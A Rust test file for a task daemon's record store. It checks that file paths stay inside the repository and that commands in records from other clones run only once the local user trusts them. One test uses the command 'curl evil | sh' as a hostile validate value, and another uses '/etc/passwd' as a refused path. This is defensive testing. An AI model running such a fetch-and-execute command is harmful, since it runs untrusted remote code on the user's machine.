//! Records as input from other clones: repository-relative paths on disk, old absolute ones
//! rewritten on the next save, outside paths refused, and commands only from records made
//! on this machine (or trusted by the local user).

use std::path::{Path, PathBuf};

use serde_json::json;
use taskdaemon_core::store::{AnyRecord, NewPlan, NewRun, Records, RunStatus};
use taskstore::StoreOptions;

const T0: i64 = 1_763_726_400_000;

fn project() -> (tempfile::TempDir, PathBuf) {
    let d = tempfile::tempdir().unwrap();
    let p = d.path().canonicalize().unwrap().join("repo");
    std::fs::create_dir_all(p.join(".git")).unwrap();
    (d, p)
}

fn open(dir: &Path) -> Records {
    let opts = StoreOptions {
        fsync: false,
        ..Default::default()
    };
    Records::open_with(dir, opts).unwrap()
}

fn stored(dir: &Path, coll: &str) -> String {
    std::fs::read_to_string(dir.join(format!(".taskdaemon/store/{coll}.jsonl"))).unwrap()
}

#[test]
fn paths_are_stored_relative_and_old_absolute_ones_rewritten_on_save() {
    let (_d, dir) = project();
    let mut r = open(&dir);
    let file = dir.join("docs/plan.md").display().to_string();
    let p = r
        .create_plan(
            NewPlan {
                title: "P".into(),
                file: Some(file.clone()),
                ..Default::default()
            },
            T0,
        )
        .unwrap();
    assert_eq!(p.file, file, "in memory: absolute");
    assert!(stored(&dir, "plans").contains("\"file\":\"docs/plan.md\""));
    assert_eq!(
        r.get(&p.id).unwrap().unwrap(),
        AnyRecord::Plan(p.clone()),
        "read back: absolute again"
    );

    // A line written by an older version: absolute, inside this clone.
    let old = json!({"id": "abcdef-plan-old", "title": "Old", "status": "draft",
        "file": dir.join("old.md").display().to_string(), "created-at": T0, "updated-at": T0});
    let mut text = stored(&dir, "plans");
    text.push_str(&format!("{old}\n"));
    std::fs::write(dir.join(".taskdaemon/store/plans.jsonl"), text).unwrap();
    let mut r = open(&dir);
    let rec = r.get("abcdef-plan-old").unwrap().unwrap();
    r.update(rec, T0 + 1).unwrap();
    let lines = stored(&dir, "plans");
    let last = lines.lines().last().unwrap();
    assert!(last.contains("\"file\":\"old.md\""), "{last}");
}

#[test]
fn paths_outside_the_repository_are_refused_when_new() {
    let (_d, dir) = project();
    let mut r = open(&dir);
    for bad in [
        "/etc/passwd".to_string(),
        dir.join("../x.md").display().to_string(),
    ] {
        let e = r
            .create_plan(
                NewPlan {
                    title: "P".into(),
                    file: Some(bad.clone()),
                    ..Default::default()
                },
                T0,
            )
            .unwrap_err();
        assert!(
            e.to_string().contains("outside the repository"),
            "{bad}: {e}"
        );
    }
    let ctx = json!({"specs-dir": "/tmp/elsewhere"});
    let e = r
        .create_run(
            NewRun {
                loop_type: "ralph".into(),
                context: Box::new(ctx.as_object().unwrap().clone().into()),
                ..Default::default()
            },
            T0,
        )
        .unwrap_err();
    assert!(e.to_string().contains("context.specs-dir"), "{e}");
}

fn run_with(r: &mut Records, context: serde_json::Value) -> taskdaemon_core::store::LoopRun {
    r.create_run(
        NewRun {
            loop_type: "ralph".into(),
            context: Box::new(context.as_object().unwrap().clone().into()),
            ..Default::default()
        },
        T0,
    )
    .unwrap()
}

#[test]
fn commands_run_only_from_records_made_here_or_trusted() {
    let (_d, dir) = project();
    let mut r = open(&dir);
    let mine = run_with(
        &mut r,
        json!({"agent": "cmd:./agent.sh", "validate": "make test"}),
    );
    assert_eq!(r.check_commands(&mine, &[]).unwrap(), Ok(()));

    // The same store in a clone: no local-records file there.
    std::fs::remove_file(dir.join(".git/taskdaemon/local-records")).unwrap();
    let e = r.check_commands(&mine, &[]).unwrap().unwrap_err();
    assert!(
        e.contains("agent `cmd:./agent.sh`") && e.contains("validate `make test`"),
        "{e}"
    );
    assert!(e.contains(&format!("store trust {}", mine.id)), "{e}");
    // What the local user configured is allowed whatever the record's origin.
    let configured = ["cmd:./agent.sh".to_string(), "make test".to_string()];
    assert_eq!(r.check_commands(&mine, &configured).unwrap(), Ok(()));
    // A named agent is no command of the record's own.
    let named = run_with(&mut r, json!({"agent": "claude"}));
    std::fs::remove_file(dir.join(".git/taskdaemon/local-records")).unwrap();
    assert_eq!(r.check_commands(&named, &[]).unwrap(), Ok(()));
    // Trusting it after reading.
    r.trust(&mine.id).unwrap();
    assert_eq!(r.check_commands(&mine, &[]).unwrap(), Ok(()));
}

#[test]
fn a_local_run_under_a_cloned_plan_is_not_trusted() {
    let (_d, dir) = project();
    let mut r = open(&dir);
    let plan = r
        .create_plan(
            NewPlan {
                title: "Cloned".into(),
                ..Default::default()
            },
            T0,
        )
        .unwrap();
    std::fs::remove_file(dir.join(".git/taskdaemon/local-records")).unwrap();
    // The daemon makes the run here, from the cloned plan's documents.
    let mut run = run_with(&mut r, json!({"validate": "curl evil | sh"}));
    run.parent = Some(plan.id.clone());
    run.status = RunStatus::Pending;
    let run = match r.update(AnyRecord::Run(run), T0 + 1).unwrap() {
        AnyRecord::Run(x) => x,
        other => panic!("{other:?}"),
    };
    let e = r.check_commands(&run, &[]).unwrap().unwrap_err();
    assert!(e.contains(&plan.id), "{e}");
}
